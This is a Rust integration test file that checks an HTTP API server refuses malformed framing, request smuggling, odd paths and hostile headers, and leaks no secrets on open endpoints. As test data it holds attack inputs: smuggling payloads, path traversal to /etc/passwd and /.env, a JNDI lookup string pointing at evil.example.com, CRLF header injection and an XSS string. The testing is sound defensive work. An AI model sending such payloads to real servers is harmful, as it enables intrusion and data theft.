//! HTTP itself: framing, paths and headers.

use Expected::{AnyOf, Closed, Done, Refused};
use testing::UNKNOWN_ID;

use crate::fixtures::Fixtures;
use crate::wire::{Expected, JSON, Row, ask, request, try_all};

const NONE: Expected = Refused(404, "NOT_FOUND");

#[tokio::test]
async fn what_is_framed_wrongly_is_refused_and_nothing_is_smuggled() {
    let fixtures = Fixtures::in_memory().await;
    let smuggled = "GET /api/v1/agents HTTP/1.1\r\nHost: a\r\n\r\n";
    let post = |headers: &str, body: &str| {
        format!(
            "POST /api/v1/token HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n{headers}\r\n{body}"
        )
    };
    let rows: Vec<(&str, String)> = vec![
        ("two lengths", post("Content-Length: 0\r\nContent-Length: 5\r\n", smuggled)),
        ("two lengths in one", post("Content-Length: 0, 5\r\n", smuggled)),
        ("a length with a sign", post("Content-Length: +5\r\n", smuggled)),
        ("a hexadecimal length", post("Content-Length: 0x5\r\n", smuggled)),
        ("a negative length", post("Content-Length: -1\r\n", smuggled)),
        ("a length beyond all", post("Content-Length: 99999999999999999999\r\n", smuggled)),
        ("a length with a space in it", post("Content-Length: 1 0\r\n", smuggled)),
        ("an unknown encoding", post("Transfer-Encoding: xchunked\r\n", smuggled)),
        ("an encoding twice", post("Transfer-Encoding: chunked, identity\r\n", smuggled)),
        ("a chunk beyond all", post("Transfer-Encoding: chunked\r\n", "FFFFFFFFFFFFFFFFF\r\nx\r\n0\r\n\r\n")),
        ("a chunk of a negative length", post("Transfer-Encoding: chunked\r\n", "-1\r\nx\r\n0\r\n\r\n")),
        ("no method", " / HTTP/1.1\r\nHost: a\r\n\r\n".into()),
        ("no version", "GET /health\r\nHost: a\r\n\r\n".into()),
        ("a version to come", "GET /health HTTP/3.0\r\nHost: a\r\n\r\n".into()),
        ("HTTP 2 without asking", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".into()),
        ("a space before a header's colon", "GET /health HTTP/1.1\r\nHost : a\r\n\r\n".into()),
        ("a folded header", "GET /health HTTP/1.1\r\nHost: a\r\nX: a\r\n b\r\n\r\n".into()),
        ("a NUL in a header", "GET /health HTTP/1.1\r\nHost: a\r\nX: a\0b\r\n\r\n".into()),
        ("a return in a header", "GET /health HTTP/1.1\r\nHost: a\r\nX: a\rb\r\n\r\n".into()),
        ("a header without a name", "GET /health HTTP/1.1\r\n: a\r\n\r\n".into()),
        ("two hundred headers", format!("GET /health HTTP/1.1\r\nHost: a\r\n{}\r\n", "X: a\r\n".repeat(200))),
        (
            "a head of a megabyte",
            format!("GET /health HTTP/1.1\r\nHost: a\r\nX: {}\r\n\r\n", "a".repeat(1_000_000)),
        ),
        (
            "a path of a hundred thousand bytes",
            format!("GET /{} HTTP/1.1\r\nHost: a\r\n\r\n", "a".repeat(100_000)),
        ),
        ("TLS", "\u{16}\u{3}\u{1}\u{0}\u{a5}".into()),
        ("another protocol", "EHLO example.com\r\n\r\n".into()),
    ];
    let rows = rows
        .into_iter()
        .map(|(name, text)| Row { name: name.to_owned(), request: text.into_bytes(), expected: Closed })
        .collect();
    try_all(&fixtures, rows).await;
}

/// RFC 9112 section 3.2.
#[tokio::test]
async fn a_request_without_one_host_is_refused() {
    let fixtures = Fixtures::in_memory().await;
    let rows = [
        ("no host", "GET /health HTTP/1.1\r\n\r\n", Refused(400, "VALIDATION_ERROR")),
        ("two hosts", "GET /health HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", Refused(400, "VALIDATION_ERROR")),
        (
            "one host twice",
            "GET /health HTTP/1.1\r\nHost: a\r\nhost: a\r\n\r\n",
            Refused(400, "VALIDATION_ERROR"),
        ),
        ("an empty host", "GET /health HTTP/1.1\r\nHost:\r\n\r\n", Done),
        ("no host in HTTP/1.0", "GET /health HTTP/1.0\r\n\r\n", Done),
    ];
    let rows = rows
        .into_iter()
        .map(|(name, text, expected)| Row {
            name: name.to_owned(),
            request: text.as_bytes().to_vec(),
            expected,
        })
        .collect();
    try_all(&fixtures, rows).await;
}

#[tokio::test]
async fn every_path_that_is_none_is_a_missing_one() {
    let fixtures = Fixtures::in_memory().await;
    let bearer = format!("Bearer {}", fixtures.admin);
    let id = fixtures.client(&["files:read"], None).await.id;
    let long = format!("/api/v1/{}", "a".repeat(8_000));
    let agent = |tail: &str| format!("/api/v1/agents/{id}{tail}");
    let paths: Vec<(String, Expected)> = vec![
        ("/".into(), AnyOf(&[200, 303, 307, 308, 404])),
        ("//".into(), NONE),
        ("/api".into(), NONE),
        ("/api/v1".into(), NONE),
        ("/api/v2/agents".into(), NONE),
        ("/API/V1/AGENTS".into(), NONE),
        ("//api/v1/agents".into(), NONE),
        ("/api//v1/agents".into(), NONE),
        ("/api/v1/agents/".into(), AnyOf(&[404])),
        ("/api/v1/./agents".into(), NONE),
        ("/api/v1/tokens/../agents".into(), NONE),
        ("/api/v1/%2e%2e/v1/agents".into(), NONE),
        ("/api/v1/agents;x=1".into(), NONE),
        ("/api/v1/agents%00".into(), NONE),
        ("/api/v1/agents%ff".into(), NONE),
        ("/%61pi/v1/agents".into(), AnyOf(&[200, 404])),
        (long, NONE),
        ("/../../etc/passwd".into(), NONE),
        ("/.env".into(), NONE),
        ("/.git/config".into(), NONE),
        ("/metrics".into(), NONE),
        ("/docs/../.env".into(), NONE),
        (agent("/"), AnyOf(&[404])),
        (agent("%00"), AnyOf(&[404])),
        (agent("%2f.."), AnyOf(&[404])),
        (agent("/credentials/x"), AnyOf(&[404, 405])),
        ("/api/v1/agents/%7Bid%7D".into(), AnyOf(&[404])),
        ("/api/v1/agents/x".into(), Refused(404, "AGENT_NOT_FOUND")),
        (format!("/api/v1/agents/{}", id.to_uppercase()), Refused(404, "AGENT_NOT_FOUND")),
        (format!("/api/v1/agents/{UNKNOWN_ID}"), Refused(404, "AGENT_NOT_FOUND")),
        ("/api/v1/audit/x".into(), Refused(404, "AUDIT_EVENT_NOT_FOUND")),
        ("/api/v1/organizations/x".into(), Refused(404, "ORGANIZATION_NOT_FOUND")),
        ("http://evil.example.com/api/v1/agents".into(), AnyOf(&[200, 400, 404])),
    ];
    let rows = paths
        .into_iter()
        .map(|(path, expected)| Row {
            name: path.chars().take(60).collect(),
            request: request(&format!("GET {path}"), &[("Authorization", &bearer)], b""),
            expected,
        })
        .collect();
    try_all(&fixtures, rows).await;
}

#[tokio::test]
async fn headers_are_taken_for_what_they_are() {
    let fixtures = Fixtures::in_memory().await;
    let bearer = format!("Bearer {}", fixtures.admin);
    let long = "a".repeat(10_000);
    let rows = [
        ("X-Forwarded-For", "1.1.1.1, evil, , 999.1.1.1, [::1]:80"),
        ("X-Forwarded-For", long.as_str()),
        ("Forwarded", "for=1.1.1.1;proto=https"),
        ("X-Real-IP", "1.1.1.1"),
        ("X-Forwarded-Host", "evil.example.com"),
        ("X-Original-URL", "/api/v1/organizations"),
        ("X-Rewrite-URL", "/api/v1/organizations"),
        ("Origin", "null"),
        ("Origin", "https://evil.example.com"),
        ("Range", "bytes=0-18446744073709551615"),
        ("Accept", "text/html"),
        ("Accept-Encoding", "gzip, br, zstd"),
        ("Accept-Language", long.as_str()),
        ("User-Agent", "${jndi:ldap://evil.example.com/a}"),
        ("User-Agent", long.as_str()),
        ("If-None-Match", "*"),
        ("Expect", "100-continue"),
        ("Upgrade", "h2c"),
        ("Connection", "upgrade, close"),
        ("TE", "trailers"),
        ("Content-Length", "0"),
    ];
    let rows = rows
        .into_iter()
        .map(|(name, value)| Row {
            name: format!("{name}: {value:.40}"),
            request: request("GET /api/v1/agents", &[("Authorization", &bearer), (name, value)], b""),
            expected: Done,
        })
        .collect();
    try_all(&fixtures, rows).await;
}

/// Only harmless values of a caller's headers are returned to it.
#[tokio::test]
async fn no_header_of_a_stranger_comes_back_unless_it_is_harmless() {
    let fixtures = Fixtures::in_memory().await;
    for (sent, is_taken) in [
        ("abc-123._X", true),
        ("", false),
        ("<script>alert(1)</script>", false),
        ("a b", false),
        ("a%0d%0aSet-Cookie: x", false),
        ("\u{e4}", false),
        (&"a".repeat(65), false),
    ] {
        let answer = ask(fixtures.address(), &request("GET /health", &[("X-Request-Id", sent)], b"")).await;
        assert_eq!(answer.header("x-request-id") == Some(sent), is_taken, "{sent:?}: {answer:?}");
    }
    let headers = [("Origin", "https://evil.example.com"), ("Access-Control-Request-Method", "DELETE")];
    let answer = ask(fixtures.address(), &request("OPTIONS /api/v1/agents", &headers, b"")).await;
    assert_eq!(answer.header("access-control-allow-origin"), None);
}

/// Paths that need no token reveal no secret.
#[tokio::test]
async fn what_is_open_tells_no_secret() {
    let fixtures = Fixtures::on_stores().await;
    for path in [
        "/health",
        "/health/ready",
        "/docs",
        "/openapi.json",
        "/openapi.yaml",
        "/.well-known/jwks.json",
        "/.well-known/oauth-authorization-server",
        "/.well-known/openid-configuration",
        "/.well-known/oauth-protected-resource",
        "/api/v1/authorize",
    ] {
        let answer = ask(fixtures.address(), &request(&format!("GET {path}"), &[], b"")).await;
        assert!(answer.status < 500, "{path}");
        assert!(!path.ends_with("jwks.json") || !answer.body.contains("\"d\""), "a private key is revealed");
        for word in ["PRIVATE", "postgres://", "redis+unix", &fixtures.server.administrator().secret, "/tmp/"]
        {
            assert!(!answer.body.contains(word), "{path} reveals {word}");
        }
    }
    let bearer = format!("Bearer {}", fixtures.admin);
    let headers = [("Authorization", bearer.as_str()), JSON];
    let too_large = request("POST /api/v1/agents", &headers, "a".repeat(1_100_000).as_bytes());
    let rows = vec![Row {
        name: "a body of more than a megabyte".to_owned(),
        request: too_large,
        expected: AnyOf(&[413]),
    }];
    try_all(&fixtures, rows).await;
}
